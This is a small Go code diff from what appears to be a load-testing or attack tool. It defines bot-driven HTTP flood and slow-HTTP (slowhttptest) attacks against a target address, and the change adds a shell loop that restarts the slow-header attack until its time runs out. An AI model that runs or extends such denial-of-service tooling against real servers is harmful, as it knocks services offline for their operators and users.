@@ -125,9 +125,11 @@ func HTTPFlood(pop string, to netip.Addr, host, path string, connections int) To
 	}}
 }
 
-// SlowHTTP holds connections with heads that never end.
+// SlowHTTP holds connections with heads that never end. The tool ends when the last
+// connection was closed on it, and begins again, until its time is over.
 func SlowHTTP(pop string, to netip.Addr, path string, connections int) Tool {
 	return Tool{Space: Bots(pop), To: []netip.Addr{to}, Conns: connections, Args: []string{
+		"sh", "-c", `while :; do "$@"; done`, "again",
 		"slowhttptest", "-c", strconv.Itoa(connections), "-H", "-i", "8", "-r", "150", "-l", strconv.Itoa(int(longestLoad / time.Second)), "-x", "24",
 		"-u", fmt.Sprintf("https://%s%s", to, path),
 	}}
